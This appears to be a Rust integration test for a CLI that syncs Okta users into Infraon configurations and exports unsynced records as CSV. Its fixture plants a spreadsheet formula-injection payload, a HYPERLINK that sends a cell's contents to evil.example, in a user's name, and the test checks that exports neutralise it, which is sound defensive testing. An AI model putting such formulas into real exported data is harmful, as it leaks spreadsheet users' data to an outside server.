//! Infraon: several named configurations of an org, verified before they are installed and synced now, whose unsynced
//! records are exported for a spreadsheet.

use std::path::Path;

use okta_sim::{NewUser, Options, Org, Sim};
use serde_json::{Value, json};

use super::run;

/// What a spreadsheet would fetch from somebody's server.
const FORMULA: &str = r#"=HYPERLINK("https://evil.example/?x="&A1,"Click")"#;

/// An org with technicians and others; who they are. Nobody can be written to whose name is a formula.
struct Shop {
    sim: Sim,
    formula: String,
    _runtime: tokio::runtime::Runtime,
}

fn shop() -> Shop {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let mut org = Org::generate(7, 12, jiff::Timestamp::now());
    let lead = org.create(NewUser::new("Ada", "Byron", "ada@acme.example"));
    let technicians = org.create_group("Service Desk");
    assert!(org.add_to_group(&lead, &technicians));
    let formula = NewUser::new(FORMULA, "-1+1", "@sum.a1.acme.example").with("email", " ");
    let formula = org.create(formula.with("login", "@sum(a1).acme.example"));
    // The token that the command's tests have in their environment.
    let options = Options { token: "00secret".to_owned(), ..Options::default() };
    let sim = runtime.block_on(Sim::start(org, options)).unwrap();
    Shop { sim, formula, _runtime: runtime }
}

/// Stores a configuration as its operator does.
fn apply(directory: &Path, name: &str, url: &str, mapping: Value) {
    let document = json!({
        "name": name, "mappings": [mapping],
        "okta": { "url": url, "auth": { "kind": "api_token", "secret": format!("rollcall/{name}") } },
    });
    std::fs::write(directory.join("c.json"), document.to_string()).unwrap();
    let (status, _, stderr) = run(directory, &["apply", "c.json", "--token-env", "TOKEN"]);
    assert_eq!(status, 0, "{stderr}");
}

/// The rows of a list that is exported as comma-separated values, each as an object.
fn exported(directory: &Path, list: &[&str]) -> Vec<Value> {
    let (status, stdout, stderr) = run(directory, &[list, &["--format", "csv"]].concat());
    assert_eq!(status, 0, "{stderr}");
    let mut reader = csv::Reader::from_reader(stdout.as_bytes());
    let header = reader.headers().unwrap().clone();
    let object = |row: csv::StringRecord| header.iter().zip(row.iter()).map(|(key, cell)| (key, json!(cell))).collect();
    reader.records().map(|row| object(row.unwrap())).collect()
}

#[test]
fn infraon_configurations_are_verified_synced_and_their_unsynced_records_exported() {
    let directory = tempfile::tempdir().unwrap();
    let directory = directory.path();
    let shop = shop();
    let technicians =
        json!({ "preset": "infraon-users", "roles": [{ "group": "Service Desk", "role": "Technician" }] });
    apply(directory, "desk", &shop.sim.url(), technicians);
    apply(directory, "portal", &shop.sim.url(), json!({ "preset": "infraon-requesters" }));
    for name in ["desk", "portal"] {
        let (status, stdout, _) = run(directory, &["verify", name]);
        assert!(status == 0 && !stdout.contains("not ok"), "{stdout}");
        let (status, stdout, stderr) = run(directory, &["sync", name, "full-import"]);
        assert_eq!(status, 0, "{stdout}{stderr}");
    }
    let [technician] = &exported(directory, &["list", "desk", "infraon-users"])[..] else { panic!("one technician") };
    assert_eq!((&technician["role"], &technician["fields.email"]), (&json!("Technician"), &json!("ada@acme.example")));
    assert_eq!(exported(directory, &["list", "portal", "infraon-requesters"]).len(), 13);
    assert!(exported(directory, &["unsynced", "desk"]).is_empty());

    let [row] = &exported(directory, &["unsynced", "portal"])[..] else { panic!("one row") };
    assert_eq!((&row["id"], &row["reason"]), (&json!(shop.formula), &json!("missing_required")));
    assert_eq!(row["identifier"], "'@sum(a1).acme.example", "what a spreadsheet would calculate is text");
    assert!(row["message"].as_str().unwrap().contains("email") && row["hint"] != "" && row["attempts"] == "1", "{row}");
    shop.sim.with(|org| assert!(org.set_profile(&shop.formula, "email", "formula@acme.example")));
    let (status, _, stderr) = run(directory, &["sync", "portal", "full-import"]);
    assert_eq!(status, 0, "{stderr}");
    assert!(exported(directory, &["unsynced", "portal"]).is_empty());
    let rows = exported(directory, &["list", "portal", "infraon-requesters"]);
    let row = rows.iter().find(|row| row["id"] == *shop.formula).unwrap();
    assert_eq!(row["fields.full_name"], format!("'{FORMULA} -1+1"));
    assert_eq!(row["fields.username"], "'@sum(a1).acme.example");
}
